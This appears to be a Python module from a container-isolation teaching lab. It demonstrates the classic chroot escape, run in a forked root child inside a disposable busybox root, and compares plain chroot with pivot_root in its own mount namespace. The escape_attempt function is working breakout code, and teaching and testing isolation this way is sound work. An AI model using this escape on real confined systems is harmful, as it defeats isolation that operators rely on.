"""chroot versus pivot_root: the classic escape, tried for real (chapter 4, notebook 30).

A root process in a chroot can leave it: chroot into a subdirectory without changing into it, so
that its working directory is outside its new root, walk up with chdir(".."), and chroot(".") at the
top. After pivot_root in a mount namespace of its own, the host's tree is no longer mounted in that
namespace, so there is nothing above to walk up to. `chroot_escape` runs the trick in a root child
inside a throwaway busybox root, entered either way, and reports what the child saw.
"""
from __future__ import annotations

import json
import os
from dataclasses import dataclass

from . import cleanup, syscalls
from .errors import InvalidValue, LabkitError
from .rootfs import BASE, Image, RootFS, bind_root, pivot


@dataclass
class EscapeResult:
    method: str              # "chroot" or "pivot_root"
    escaped: bool            # True: the process reached the host's real /
    root_entries: list[str]  # what `ls /` showed after the escape attempt
    host_root: list[str]     # the host's `ls /`, for comparison

    def __str__(self) -> str:
        verdict = "ESCAPED to the host's /" if self.escaped else "stayed inside its root"
        return f"{self.method:<10} {verdict}: ls / -> {' '.join(self.root_entries[:12])}"


def escape_attempt() -> tuple[int, int, list[str]]:
    """The trick: chroot into a subdirectory WITHOUT chdir, so the cwd is now outside the root;
    walk up with chdir("..") (the kernel stops only at the process's root, which we just moved
    below us), then chroot(".") at the top we reached."""
    os.makedirs("/.escape", exist_ok=True)
    os.chroot("/.escape")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    st = os.stat("/")
    return st.st_dev, st.st_ino, sorted(os.listdir("/"))


def _enter_root(root: str, method: str) -> None:
    if method == "chroot":
        os.chroot(root)
        os.chdir("/")
    else:
        syscalls.unshare(syscalls.CLONE_NEWNS)
        syscalls.mount(None, "/", None, syscalls.MS_REC | syscalls.MS_PRIVATE)
        bind_root(root)
        pivot(root)


def chroot_escape(method: str = "chroot", image_ref: str | Image = BASE) -> EscapeResult:
    """Put a root child process into a busybox root with `method` ("chroot" or "pivot_root"), let it
    try the chroot escape, and report what it saw. Runs on a throwaway overlay root."""
    if method not in ("chroot", "pivot_root"):
        raise InvalidValue("method", method, "'chroot' or 'pivot_root'")
    host_st = os.stat("/")
    host_root = sorted(os.listdir("/"))
    with RootFS(image_ref, name=cleanup.unique_name("escape")) as rootfs:
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:  # the child: never returns into the caller's code
            try:
                os.close(r)
                _enter_root(str(rootfs.path), method)
                dev, ino, entries = escape_attempt()
                os.write(w, json.dumps([dev, ino, entries]).encode())
                os._exit(0)
            except BaseException as exc:  # noqa: BLE001
                os.write(w, json.dumps({"error": f"{type(exc).__name__}: {exc}"}).encode())
                os._exit(1)
        os.close(w)
        with os.fdopen(r) as pipe:
            data = json.loads(pipe.read() or '{"error": "child died"}')
        os.waitpid(pid, 0)
    if isinstance(data, dict):
        raise LabkitError(f"chroot_escape({method!r}) failed in the child: {data['error']}")
    dev, ino, entries = data
    return EscapeResult(method, (dev, ino) == (host_st.st_dev, host_st.st_ino), entries, host_root)
